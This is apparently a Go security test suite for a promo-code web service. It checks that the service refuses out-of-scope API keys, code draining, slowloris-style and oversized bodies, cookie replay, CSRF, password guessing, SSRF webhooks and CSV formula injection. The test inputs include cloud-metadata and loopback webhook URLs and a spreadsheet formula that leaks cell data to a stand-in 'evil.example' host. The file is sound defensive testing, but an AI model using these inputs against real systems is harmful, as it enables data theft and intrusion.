package faults

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// Keys of TestSecurityInput besides the harness's admin one.
const (
	mailerKey = "faults-mailer-0123456789abcdef" // render only, as handed to a mailer
	issuerKey = "faults-issuer-0123456789abcdef" // issue only
	adminPass = "faults admin password, long enough"
)

// TestSecurityInput is issue 20's attacks on a running web process, each a row of the
// bad-input table: keys used beyond their scope, codes drained to made-up customers,
// unbounded and slow bodies, uploads built to blow memory up, guessed and replayed
// admin sign-ins, and the smaller leaks. Each must be refused with its stable answer,
// issue and store nothing, and leave the server up; the leak scan closes.
func TestSecurityInput(t *testing.T) {
	h := newHarness(t, "API_KEYS=faults:"+"faults-key-0123456789abcdef:admin,mailer:"+mailerKey+":render,issuer:"+issuerKey+":issue",
		"ISSUE_RATE_LIMIT=3/m", "ADMIN_PASSWORD="+adminPass, "HTTP_READ_TIMEOUT=2s", "HTTP_STREAM_IDLE=2s",
		"MAX_UPLOAD_BYTES=67108864", "TMPDIR="+t.TempDir(),
		"WEBHOOK_ALLOW_PRIVATE=") // this test's webhooks are held to public addresses
	h.startWeb()
	gid := h.createGroup("Secure")
	h.uploadCodes(gid, "FLTK", 50)
	h.customers(5)
	h.scopeChecks(gid)
	h.issueChecks(gid)
	h.bodyChecks(gid)
	h.memoryChecks(gid)
	h.messageChecks()
	h.sessionChecks()
	h.webhookChecks(gid)
	h.smallChecks()
	c := newChecks(t, "leak scan after the security input")
	defer c.done()
	h.checkCodes(c, gid)
	h.checkLeaks(c)
}

// scopeChecks: a key handed to a mailer for POST /v1/render tries everything else.
func (h *harness) scopeChecks(gid int64) {
	c := newChecks(h.t, "render-only key on export, issue, write and read routes")
	defer c.done()
	g := fmt.Sprintf("/v1/groups/%d", gid)
	for _, p := range []struct{ method, path, ctype, body, scope string }{
		{"GET", g + "/unused.csv", "", "", "export"},
		{"GET", g + "/issues.csv", "", "", "export"},
		{"POST", g + "/issue", "application/json", `{"customer_id":"c1"}`, "issue"},
		{"PUT", "/v1/customers", "application/x-ndjson", `{"id":"c1","email":"evil@example.com"}` + "\n", "write"},
		{"PATCH", g, "application/json", `{"alert_webhook":"http://169.254.169.254/"}`, "write"},
		{"POST", g + "/codes", "text/plain", "FLTX-00000001\n", "write"},
		{"DELETE", g, "", "", "write"},
		{"GET", "/v1/groups", "", "", "read"},
		{"GET", "/v1/customers/c1/promocodes", "", "", "read"},
	} {
		c.tried++
		a := h.send(p.method, p.path, p.ctype, []byte(p.body), mailerKey)
		e, _ := a.body["error"].(map[string]any)
		scope, _ := e["scope"].(string)
		c.check("403 insufficient_scope naming the scope", a.status == 403 && a.code == "insufficient_scope" && scope == p.scope,
			"%s %s: %d %s", p.method, p.path, a.status, a.raw)
		c.check("no code in the refusal", !codeToken.Match(a.raw), "%s", a.raw)
	}
	var email string
	h.db.Get(&email, `SELECT email FROM customers WHERE id = 'c1'`)
	c.check("customer untouched", email == "c1@example.com", "email %q", email)
	var webhook string
	h.db.Get(&webhook, `SELECT alert_webhook FROM groups WHERE id = $1`, gid)
	c.check("webhook untouched", webhook == "", "alert_webhook %q", webhook)
	c.lost += h.issuedCount()
}

func (h *harness) issuedCount() int {
	var n int
	h.db.Get(&n, `SELECT count(*) FROM issues`)
	return n
}

// issue sends a direct issue with key.
func (h *harness) issue(gid int64, key, idem, body string) answer {
	h.t.Helper()
	req, _ := http.NewRequest("POST", fmt.Sprintf("%s/v1/groups/%d/issue", h.webURL, gid), strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Idempotency-Key", idem)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		h.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	a := answer{status: resp.StatusCode, raw: b}
	if e, ok := decode(b)["error"].(map[string]any); ok {
		a.code, _ = e["code"].(string)
	}
	if resp.StatusCode == 429 && resp.Header.Get("Retry-After") == "" {
		a.code += " (no Retry-After)"
	}
	return a
}

// issueChecks: draining the pool to made-up customers, then past the key's rate limit.
func (h *harness) issueChecks(gid int64) {
	c := newChecks(h.t, "direct issue to 50 made-up customers in a loop (issue key, 3/min)")
	defer c.done()
	before := h.issuedCount()
	seen := map[string]int{}
	for i := range 50 {
		c.tried++
		a := h.issue(gid, issuerKey, fmt.Sprintf("drain-%d", i), fmt.Sprintf(`{"customer_id":"made-up-%d"}`, i))
		seen[fmt.Sprint(a.status, " ", a.code)]++
		ok := a.status == 404 && a.code == "customer_not_found" || a.status == 429 && a.code == "rate_limited"
		c.check("404 customer_not_found or 429 rate_limited", ok, "%d %s", a.status, a.raw)
	}
	c.check("the first three are 404 customer_not_found", seen["404 customer_not_found"] == 3, "%v", seen)
	c.lost += h.issuedCount() - before
	c.note("answers %v", seen)
	c.check("no code issued", h.issuedCount() == before, "%d issued", h.issuedCount()-before)

	c2 := newChecks(h.t, "direct issue past the key's rate limit (ISSUE_RATE_LIMIT=3/m)")
	defer c2.done()
	c2.tried = 2
	a := h.issue(gid, issuerKey, "limited-1", `{"customer_id":"c1"}`)
	c2.check("429 rate_limited with Retry-After", a.status == 429 && a.code == "rate_limited", "%d %q %s", a.status, a.code, a.raw)
	a = h.issue(gid, h.key, "other-key-1", `{"customer_id":"c1"}`)
	c2.check("another key is not slowed", a.status == 201, "%d %s", a.status, a.raw)
	c2.check("one code issued", h.issuedCount() == before+1, "%d issued", h.issuedCount()-before)
}

func decode(b []byte) map[string]any {
	var m map[string]any
	json.Unmarshal(b, &m)
	return m
}

// bodyChecks: a multipart sign-in body, a trickled JSON body, and a trickled upload
// that keeps moving.
func (h *harness) bodyChecks(gid int64) {
	c := newChecks(h.t, "64 MiB multipart body to /admin/login, no session")
	c.tried = 1
	pr, pw := io.Pipe()
	mw := multipart.NewWriter(pw)
	var sent atomic.Int64
	go func() {
		fw, _ := mw.CreateFormFile("secret", "big.bin")
		chunk := bytes.Repeat([]byte("x"), 1<<20)
		for range 64 {
			n, err := fw.Write(chunk)
			sent.Add(int64(n))
			if err != nil {
				pw.CloseWithError(err)
				return
			}
		}
		mw.Close()
		pw.Close()
	}()
	req, _ := http.NewRequest("POST", h.webURL+"/admin/login", pr)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	resp, err := http.DefaultClient.Do(req)
	read := sent.Load()
	pr.CloseWithError(io.ErrClosedPipe)
	c.check("415 before the body is read", err == nil && resp.StatusCode == 415 && read < 16<<20, "%v %v after %d bytes", err, resp, read)
	if resp != nil {
		resp.Body.Close()
	}
	tmp, _ := os.ReadDir(h.envValue("TMPDIR"))
	c.check("nothing spooled to TMPDIR", len(tmp) == 0, "%d files", len(tmp))
	c.check("server up", h.up(), "web down")
	c.note("%d MiB sent when the answer came", read>>20)
	c.done()

	c = newChecks(h.t, "JSON body trickled 1 byte/500 ms (HTTP_READ_TIMEOUT=2s)")
	c.tried = 1
	start := time.Now()
	cut := h.trickle("POST", "/v1/groups", "application/json", 1000, 500*time.Millisecond, 10*time.Second)
	c.check("connection cut by the read timeout", cut && time.Since(start) < 6*time.Second, "cut %v after %s", cut, time.Since(start))
	c.check("server up", h.up(), "web down")
	c.done()

	c = newChecks(h.t, "upload trickled for 5 s, never idle 2 s (streams exempt)")
	c.tried = 1
	st, b := h.slowUpload(gid, 5*time.Second)
	c.check("201: a moving stream outlives the read timeout", st == 201, "%d %s", st, b)
	c.done()
}

// envValue is the last value the harness gives a variable.
func (h *harness) envValue(name string) string {
	v := ""
	for _, kv := range h.env {
		if k, val, _ := strings.Cut(kv, "="); k == name {
			v = val
		}
	}
	return v
}

// trickle sends a request whose body of n bytes comes one byte per every; it reports
// whether the server closed the connection before limit.
func (h *harness) trickle(method, path, ctype string, n int, every, limit time.Duration) bool {
	u, _ := url.Parse(h.webURL)
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		h.t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n",
		method, path, u.Host, h.key, ctype, n)
	closed := make(chan struct{})
	go func() {
		io.Copy(io.Discard, conn)
		close(closed)
	}()
	deadline := time.After(limit)
	for i := 0; i < n; i++ {
		select {
		case <-closed:
			return true
		case <-deadline:
			return false
		case <-time.After(every):
			conn.Write([]byte("{"))
		}
	}
	return false
}

// slowUpload sends codes for d, a line every 300 ms, and returns the answer.
func (h *harness) slowUpload(gid int64, d time.Duration) (int, []byte) {
	pr, pw := io.Pipe()
	go func() {
		bw := bufio.NewWriter(pw)
		for i := 0; time.Duration(i)*300*time.Millisecond < d; i++ {
			fmt.Fprintf(bw, "FLTW-%08d\n", i)
			bw.Flush()
			time.Sleep(300 * time.Millisecond) // the pace of the stream itself, not a wait for a condition
		}
		pw.Close()
	}()
	return h.do("POST", fmt.Sprintf("/v1/groups/%d/codes", gid), "text/plain", pr, "default")
}

// browser is a cookie-keeping client that does not follow redirects.
func browser() *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

var hiddenField = regexp.MustCompile(`name="(token|csrf)" value="([^"]+)"`)

// signIn posts the sign-in form with secret and returns the status.
func (h *harness) signIn(cl *http.Client, secret string) int {
	resp, err := cl.Get(h.webURL + "/admin/login")
	if err != nil {
		h.t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := hiddenField.FindStringSubmatch(string(b))
	if m == nil {
		h.t.Fatalf("no sign-in token in %s", b)
	}
	resp, err = cl.PostForm(h.webURL+"/admin/login", url.Values{"token": {m[2]}, "secret": {secret}})
	if err != nil {
		h.t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// page GETs an admin path and returns the status and body.
func page(cl *http.Client, u string) (int, string) {
	resp, err := cl.Get(u)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// sessionChecks: a replayed cookie after sign-out, asynqmon without its token, a key
// without admin, and password guessing.
func (h *harness) sessionChecks() {
	c := newChecks(h.t, "admin cookie replayed after sign-out")
	c.tried = 1
	cl := browser()
	c.check("signed in", h.signIn(cl, adminPass) == 303, "")
	u, _ := url.Parse(h.webURL + "/admin/")
	cookies := cl.Jar.Cookies(u)
	st, body := page(cl, h.webURL+"/admin/groups")
	m := hiddenField.FindStringSubmatch(body)
	c.check("groups page", st == 200 && m != nil, "%d", st)
	if m != nil {
		resp, err := cl.PostForm(h.webURL+"/admin/logout", url.Values{"csrf": {m[2]}})
		c.check("signed out", err == nil && resp.StatusCode == 303, "%v", err)
	}
	copyCl := browser()
	copyCl.Jar.SetCookies(u, cookies)
	st, _ = page(copyCl, h.webURL+"/admin/groups")
	c.check("the copied cookie no longer signs in", st == 303, "%d", st)
	c.done()

	c = newChecks(h.t, "asynqmon mutation without the CSRF token (no Origin header)")
	c.tried = 1
	cl = browser()
	h.signIn(cl, adminPass)
	page(cl, h.webURL+"/admin/queues/")
	req, _ := http.NewRequest("DELETE", h.webURL+"/admin/queues/api/queues/mailings", nil)
	resp, err := cl.Do(req)
	c.check("403", err == nil && resp.StatusCode == 403, "%v %v", err, resp)
	c.done()

	c = newChecks(h.t, "admin sign-in with a render-only API key")
	c.tried = 1
	c.check("403, no session", h.signIn(browser(), mailerKey) == 403, "")
	c.done()

	c = newChecks(h.t, "40 wrong admin passwords from one address, then the right one")
	c.tried = 41
	cl = browser()
	seen := map[int]int{}
	for i := range 40 {
		seen[h.signIn(cl, fmt.Sprintf("guess number %d", i))]++
	}
	// Five free failures, the sixth starts a 1 s wait: the next attempts, made within
	// it, are refused unchecked (a slow machine may let one more through).
	c.check("6 refused, the rest throttled", seen[401] >= 6 && seen[401] <= 8 && seen[429] == 40-seen[401], "%v", seen)
	c.check("the right password waits too", h.signIn(cl, adminPass) == 429, "")
	c.note("answers %v", seen)
	c.check("server up", h.up(), "web down")
	c.done()
}

// webhookChecks: alert webhooks aimed at loopback, metadata and private addresses are
// refused when saved; one stored anyway (a name that resolved elsewhere when saved) is
// refused at dial time, and neither the answer, the stored error nor the logs carry
// the URL's token.
func (h *harness) webhookChecks(gid int64) {
	var hits atomic.Int64
	recv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer recv.Close()
	port := recv.Listener.Addr().(*net.TCPAddr).Port
	c := newChecks(h.t, "alert_webhook to loopback, metadata and private addresses")
	for _, u := range []string{recv.URL + "/alert?token=FLTTOKEN-1", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/hook",
		fmt.Sprintf("http://[::1]:%d/", port), fmt.Sprintf("http://localhost:%d/x?token=FLTTOKEN-1", port), "http://100.64.0.1/"} {
		c.tried++
		body, _ := json.Marshal(map[string]string{"alert_webhook": u})
		a := h.send("PATCH", fmt.Sprintf("/v1/groups/%d", gid), "application/json", body, "default")
		c.check("400 invalid_field", a.status == 400 && a.code == "invalid_field" && strings.Contains(string(a.raw), "not allowed"), "%s: %d %s", u, a.status, a.raw)
		c.check("no token in the answer", !strings.Contains(string(a.raw), "FLTTOKEN"), "%s", a.raw)
	}
	c.done()

	c = newChecks(h.t, "alert webhook stored on loopback, delivered by alerts check")
	c.tried = 1
	h.db.MustExec(`UPDATE groups SET alert_webhook = $2, low_balance_threshold = 1000000000 WHERE id = $1`, gid, recv.URL+"/alert?token=FLTTOKEN-2")
	p := h.start("alerts check", nil, "alerts", "check")
	<-p.done
	var lastError string
	h.db.Get(&lastError, `SELECT d.last_error FROM alert_deliveries d JOIN alerts a ON a.id = d.alert_id
		WHERE a.group_id = $1 AND d.channel = 'webhook'`, gid)
	c.check("not posted", hits.Load() == 0, "%d hits", hits.Load())
	c.check("last_error names the address class", strings.Contains(lastError, "loopback"), "%q (%v: %s)", lastError, p.err, p.out.String())
	c.check("no token in last_error or the log", !strings.Contains(lastError+p.out.String(), "FLTTOKEN"), "%q", lastError)
	h.db.MustExec(`UPDATE groups SET alert_webhook = '', low_balance_threshold = NULL WHERE id = $1`, gid)
	c.done()

	c = newChecks(h.t, "codes uploaded as spreadsheet formulas, then exported")
	c.tried = 1
	g2 := h.createGroup("Formulas")
	h.send("POST", fmt.Sprintf("/v1/groups/%d/codes", g2), "text/plain", []byte("=HYPERLINK(\"https://evil.example/?\"&A2)\n+FLTF-00000001\n@FLTF-00000002\n"), "default")
	st, b := h.do("GET", fmt.Sprintf("/v1/groups/%d/unused.csv", g2), "", nil, "default")
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	ok := st == 200 && len(lines) == 4
	for _, l := range lines[1:] {
		ok = ok && strings.HasPrefix(l, "'") || strings.HasPrefix(l, `"'`)
	}
	c.check("every formula cell behind an apostrophe", ok, "%d %q", st, b)
	c.done()
}

// smallChecks: /metrics without a key, a key=value DATABASE_URL's password on a
// connection error, and an API_KEYS entry without scopes.
func (h *harness) smallChecks() {
	c := newChecks(h.t, "/metrics on HTTP_ADDR without a key")
	c.tried = 1
	a := h.send("GET", "/metrics", "", nil, "")
	c.check("401, no group name", a.status == 401 && !strings.Contains(string(a.raw), "Secure"), "%d %.200s", a.status, a.raw)
	c.done()

	c = newChecks(h.t, "key=value DATABASE_URL with a password, database down")
	c.tried = 1
	p := h.start("migrate", []string{"DATABASE_URL=host=127.0.0.1 port=1 user=pp password=FLTPW-s3cret dbname=x sslmode=disable connect_timeout=2"}, "migrate")
	<-p.done
	c.check("fails without showing the password", p.err != nil && !strings.Contains(p.out.String(), "FLTPW") &&
		strings.Contains(p.out.String(), "password=xxxxx"), "%v: %s", p.err, p.out.String())
	c.done()

	c = newChecks(h.t, "API_KEYS entry without scopes (the old name:key form)")
	c.tried = 1
	p = h.start("web", []string{"HTTP_ADDR=127.0.0.1:0", "API_KEYS=legacy:0123456789abcdef0123"}, "web")
	<-p.done
	c.check("web refuses to start, saying how", p.err != nil && strings.Contains(p.out.String(), "name:key:admin"), "%v: %s", p.err, p.out.String())
	c.done()
}
